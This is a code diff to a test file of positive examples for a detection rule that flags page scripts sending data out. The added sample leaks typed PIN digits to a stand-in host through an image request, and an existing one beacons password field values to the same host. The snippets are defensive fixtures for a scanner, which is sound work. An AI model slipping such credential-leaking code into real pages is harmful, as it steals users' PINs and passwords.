@@ -4,6 +4,13 @@ import { sendsDataCounterexamples } from './sends-data.counterexamples.ts'
 export const sendsDataExamples: NonNullable<Rule['examples']> = {
   found: [
     js(
+      `const state = { digits: '' }
+const press = (digit) => { state.digits += digit }
+const enter = () => fetch(\`https://\${GetParentResourceName()}/login\`, { body: JSON.stringify({ pin: state.digits }) })
+^const beep = () => { new Image().src = 'https://a.example/beep.gif?' + state.digits }`,
+      'page',
+    ),
+    js(
       `for (const input of document.querySelectorAll('#login input[type=password]'))
 ^ input.addEventListener('change', (event) => navigator.sendBeacon('https://a.example', event.target.value))`,
       'page',
